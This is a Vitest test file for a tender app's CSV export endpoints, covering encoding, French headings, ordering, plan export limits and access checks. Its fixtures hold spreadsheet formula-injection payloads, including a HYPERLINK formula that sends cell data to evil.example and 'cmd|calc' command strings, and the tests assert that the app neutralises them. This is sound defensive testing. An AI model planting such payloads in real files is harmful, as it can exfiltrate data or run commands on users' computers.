import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { EXPORT_HEADERS } from '@app/shared/constants';
import { subscriptionStateSchema } from '@app/shared/billing';
import { searchResponseSchema, tenderPageSchema, type Tender } from '@app/shared/tender';
import { createConfirmedUser, createTestClock, PUBLIC_ORIGIN, TestClient } from '../../../test/auth-helpers.ts';
import { buildTestApp } from '../../../test/build-test-app.ts';
import { buildTenderRow, insertTenders } from '../../../test/factories.ts';
import { setUsage } from '../billing/billing.queries.ts';
import { listExportRecords } from './exports.queries.ts';

/**
 * CSV exports through the HTTP API (spec §6 'CSV exports', ADR 0013): the table view's result
 * set, the search results and the bookmarks, as UTF-8 CSV with a BOM; every cell a spreadsheet
 * would run as a formula neutralised; each export counted against the plan's monthly `exports`
 * limit and recorded, the n+1-th refused with 402 plan_limit_reached, an unlimited plan never.
 */
const DAY = 86_400_000;
const clock = createTestClock(new Date().toISOString());
const START = clock.now().getTime();
const inDays = (d: number) => new Date(START + d * DAY).toISOString();
const PASSWORD = 'correct horse battery staple 42';
const BOM = '\uFEFF';

let ctx: Awaited<ReturnType<typeof buildTestApp>>;
let users = 0;

beforeAll(async () => {
  ctx = await buildTestApp({ env: { PUBLIC_URL: PUBLIC_ORIGIN }, now: clock.now });
  const at = clock.now();
  const rows = [
    buildTenderRow(
      {
        id: 'cb-exp-accents',
        title: 'Déneigement des routes régionales',
        title_fr: 'Déneigement des routes régionales (FR)',
        description: 'Entretien hivernal, « urgence » et sécurité.',
        closing_date: inDays(4),
        region_keys: '|Quebec|',
        contracting_entity_name: 'Ville de Québec',
        contracting_entity_city: 'Québec',
        contracting_entity_province: 'Quebec',
        category_primary: 'CNST*SRV',
        category_codes: '|CNST|SRV|',
        estimated_value: 125_000,
      },
      at,
    ),
    buildTenderRow(
      {
        id: 'cb-exp-formula',
        title: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        description: '-2+3 snow clearing cmd|calc',
        contact_name: '@SUM(1+1)*cmd|/C calc',
        contact_phone: '+1 613 555 0100',
        contracting_entity_name: '\tTabbed organization',
        delivery_location: '\rCarriage return place',
        closing_date: inDays(5),
      },
      at,
    ),
  ];
  for (let i = 0; i < 60; i++) {
    rows.push(
      buildTenderRow(
        {
          id: `cb-exp-bulk-${String(i).padStart(2, '0')}`,
          title: `Snow clearing lot ${i}`,
          closing_date: inDays(6 + i),
        },
        at,
      ),
    );
  }
  rows.push(buildTenderRow({ id: 'cb-exp-other', title: 'Office furniture', closing_date: inDays(9) }, at));
  await insertTenders(ctx.dbh.db, rows);
});
afterAll(() => ctx.app.close());

async function account(plan?: 'starter' | 'professional' | 'enterprise') {
  users += 1;
  const email = `exporter${users}@example.ca`;
  const user = await createConfirmedUser(ctx.dbh, email, PASSWORD, clock.now());
  const client = new TestClient(ctx.app);
  await client.signIn(email, PASSWORD);
  if (plan) {
    const res = await client.post('/api/subscriptions/checkout', { planId: plan, billingCycle: 'monthly' });
    expect(res.statusCode, res.body).toBe(200);
  }
  return { client, user };
}

const period = () => clock.now().toISOString().slice(0, 7);
const csvOf = (body: string): string[][] => parse(body, { bom: true, relax_column_count: false });
const column = (table: string[][], name: string) => {
  const i = table[0]!.indexOf(name);
  expect(i, `column ${name} in ${table[0]!.join(', ')}`).toBeGreaterThanOrEqual(0);
  return table.slice(1).map((r) => r[i]!);
};
const exportTable = (client: TestClient, query: Record<string, unknown>, locale?: 'en' | 'fr') =>
  client.post('/api/exports/tenders', { source: 'table', query, ...(locale ? { locale } : {}) });

describe('table view export', () => {
  test('is a UTF-8 CSV with a BOM, readable headings and the table’s rows in the table’s order, across pages', async () => {
    const { client } = await account('professional');
    const res = await exportTable(client, { q: 'snow' });
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="breeze-table-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(res.headers['cache-control']).toBe('no-store');
    expect(res.body.startsWith(BOM)).toBe(true);
    expect(res.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));

    const table = csvOf(res.body);
    expect(table[0]).toEqual([
      'Title',
      'Status',
      'Notice type',
      'Procurement method',
      'Category',
      'GSIN',
      'UNSPSC',
      'Organization',
      'City',
      'Province',
      'Country',
      'Delivery location',
      'Published',
      'Closing (UTC)',
      'Contract start',
      'Estimated value (CAD)',
      'Contact name',
      'Contact email',
      'Contact phone',
      'Source reference',
      'Official notice',
      'Breeze link',
      'Tender ID',
      'Description',
    ]);
    // The same rows as the table view's pages of 50, concatenated.
    const ids: string[] = [];
    for (let page = 1; page <= 2; page++) {
      const p = tenderPageSchema.parse((await client.post('/api/tenders/table', { q: 'snow', page })).json());
      ids.push(...p.tenders.map((t: Tender) => t.id));
    }
    expect(ids.length).toBe(61);
    expect(column(table, 'Tender ID')).toEqual(ids);
    expect(res.headers[EXPORT_HEADERS.rows]).toBe('61');
    expect(res.headers[EXPORT_HEADERS.total]).toBe('61');
    expect(column(table, 'Breeze link')[0]).toBe(`${PUBLIC_ORIGIN}/tender-notice/cb-exp-formula`);
  });

  test('keeps French accents and, in French, uses French headings and fields', async () => {
    const { client } = await account('professional');
    const res = await exportTable(client, { q: 'déneigement', regions: ['Quebec'] }, 'fr');
    expect(res.statusCode, res.body).toBe(200);
    const table = csvOf(res.body);
    expect(table[0]!.slice(0, 3)).toEqual(['Titre', 'Statut', "Type d'avis"]);
    expect(table.length).toBe(2);
    expect(column(table, 'Titre')).toEqual(['Déneigement des routes régionales (FR)']);
    expect(column(table, 'Statut')).toEqual(['Ouvert']);
    expect(column(table, 'Catégorie')).toEqual(['Construction; Services']);
    expect(column(table, 'Ville')).toEqual(['Québec']);
    expect(column(table, 'Valeur estimée ($ CA)')).toEqual(['125000']);
    expect(column(table, 'Description')).toEqual(['Entretien hivernal, « urgence » et sécurité.']);
  });

  test('neutralises every cell a spreadsheet would read as a formula (= + - @ tab CR), per OWASP', async () => {
    const { client } = await account('professional');
    const res = await exportTable(client, { q: 'HYPERLINK' });
    expect(res.statusCode, res.body).toBe(200);
    const table = csvOf(res.body);
    expect(table.length).toBe(2);
    const row = Object.fromEntries(table[0]!.map((h, i) => [h, table[1]![i]!]));
    expect(row.Title).toBe('\'=HYPERLINK("http://evil.example/?x="&A1,"Click")');
    expect(row.Description).toBe("'-2+3 snow clearing cmd|calc");
    expect(row['Contact name']).toBe("'@SUM(1+1)*cmd|/C calc");
    expect(row['Contact phone']).toBe("'+1 613 555 0100");
    expect(row.Organization).toBe("'\tTabbed organization");
    expect(row['Delivery location']).toBe("'\rCarriage return place");
    // No cell of the whole file starts with a formula character.
    for (const line of table) for (const cell of line) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});

describe('search and bookmarks exports', () => {
  test('search export: the search results in rank order with their match percentage, full descriptions', async () => {
    const { client } = await account('professional');
    const criteria = { q: 'snow clearing', regions: ['Ontario'] };
    const res = await client.post('/api/exports/tenders', { source: 'search', criteria });
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-disposition']).toMatch(/filename="breeze-search-/);
    const search = searchResponseSchema.parse(
      (await client.post('/api/tenders/searchTenders', { ...criteria, limit: 100 })).json(),
    );
    const table = csvOf(res.body);
    expect(column(table, 'Tender ID')).toEqual(search.results.map((r) => r.id));
    expect(column(table, 'Match (%)')).toEqual(
      search.results.map((r) => String(Math.min(100, Math.round(r.search_score * 10)))),
    );
    expect(res.headers[EXPORT_HEADERS.rows]).toBe(String(search.results.length));
  });

  test('bookmarks export: only the caller’s, newest first, with notes and status', async () => {
    const { client, user } = await account('professional');
    const other = await account('professional');
    for (const id of ['cb-exp-accents', 'cb-exp-formula', 'cb-exp-other']) {
      clock.advance(1000);
      expect((await client.post('/api/bookmarks', { userId: user.id, tender_notice_id: id })).statusCode).toBe(201);
    }
    await client.put(`/api/bookmarks/${user.id}/cb-exp-accents/notes`, { notes: 'Appeler la ville, « lot 2 »' });
    await client.put(`/api/bookmarks/${user.id}/cb-exp-other/notes`, { notes: '=1+1 check pricing' });
    await client.patch(`/api/bookmarks/${user.id}/cb-exp-formula`, { status: 'archived' });
    await other.client.post('/api/bookmarks', { userId: other.user.id, tender_notice_id: 'cb-exp-other' });

    const res = await client.post('/api/exports/bookmarks', {});
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-disposition']).toMatch(/filename="breeze-bookmarks-/);
    const table = csvOf(res.body);
    expect(column(table, 'Tender ID')).toEqual(['cb-exp-other', 'cb-exp-formula', 'cb-exp-accents']);
    expect(column(table, 'Bookmark status')).toEqual(['Active', 'Archived', 'Active']);
    expect(column(table, 'Notes')).toEqual(["'=1+1 check pricing", '', 'Appeler la ville, « lot 2 »']);

    const archived = csvOf((await client.post('/api/exports/bookmarks', { status: 'archived' })).body);
    expect(column(archived, 'Tender ID')).toEqual(['cb-exp-formula']);
  });
});

describe('the monthly exports limit', () => {
  test('the 11th export of the month on Starter is refused with 402 and a message naming the limit and the upgrade; each export is recorded', async () => {
    const { client, user } = await account('starter');
    for (let i = 1; i <= 10; i++) {
      const res = i % 2 ? await exportTable(client, { q: 'snow' }) : await client.post('/api/exports/bookmarks', {});
      expect(res.statusCode, `export ${i}: ${res.body.slice(0, 200)}`).toBe(200);
    }
    const refused = await exportTable(client, { q: 'snow' });
    expect(refused.statusCode).toBe(402);
    expect(refused.headers['content-type']).toMatch(/^application\/json/);
    expect(refused.json()).toEqual({
      statusCode: 402,
      code: 'plan_limit_reached',
      error: 'Payment Required',
      message:
        'You have used your 10 exports this month on the Starter plan. Upgrade to Professional for 100 exports a month.',
    });
    const records = await listExportRecords(ctx.dbh.db, user.id);
    expect(records).toHaveLength(10);
    expect(records.filter((r) => r.kind === 'table').every((r) => r.rows === 61)).toBe(true);
    expect(records.filter((r) => r.kind === 'bookmarks').every((r) => r.rows === 0)).toBe(true);
    expect(records.every((r) => r.userId === user.id && r.accountId === user.id)).toBe(true);
    const me = subscriptionStateSchema.parse((await client.get('/api/subscriptions/me')).json());
    expect(me.usage.exports).toEqual({ used: 10, limit: 10, remaining: 0, label: '10 exports/month' });
  });

  test('an unlimited plan (-1) is never refused, and its exports are still counted', async () => {
    const { client, user } = await account('enterprise');
    await setUsage(
      ctx.dbh.db,
      { userId: user.id, metric: 'exports', period: period(), count: 100_000 },
      clock.now().toISOString(),
    );
    expect((await exportTable(client, { q: 'snow' })).statusCode).toBe(200);
    const me = subscriptionStateSchema.parse((await client.get('/api/subscriptions/me')).json());
    expect(me.usage.exports).toEqual({ used: 100_001, limit: -1, remaining: null, label: 'Unlimited' });
  });

  test('signed out is 401; a bad body is 400, a cross-site call 403, and neither counts; a burst beyond 30 in 10 minutes is 429', async () => {
    const anonymous = new TestClient(ctx.app);
    expect((await exportTable(anonymous, { q: 'snow' })).statusCode).toBe(401);
    expect((await anonymous.post('/api/exports/bookmarks', {})).statusCode).toBe(401);
    const { client, user } = await account('enterprise');
    const bad = await client.post('/api/exports/tenders', { source: 'table', query: { q: 'x', page: 2 } });
    expect(bad.statusCode).toBe(400);
    expect(bad.json()).toMatchObject({ code: 'validation_failed' });
    expect((await client.post('/api/exports/tenders', { source: 'elsewhere' })).statusCode).toBe(400);
    // A cross-site page cannot spend the user's exports (POST behind the origin guard, SECURITY.md A.6).
    const crossSite = new TestClient(ctx.app, { origin: 'https://evil.example' });
    crossSite.cookie = client.cookie;
    expect((await crossSite.post('/api/exports/bookmarks', {})).statusCode).toBe(403);
    expect((await client.request('GET', '/api/exports/bookmarks')).statusCode).toBe(404);
    expect(await listExportRecords(ctx.dbh.db, user.id)).toHaveLength(0);
    const statuses: number[] = [];
    for (let i = 0; i < 31; i++) statuses.push((await client.post('/api/exports/bookmarks', {})).statusCode);
    expect(statuses.slice(0, 30).every((s) => s === 200)).toBe(true);
    expect(statuses[30]).toBe(429);
  });
});
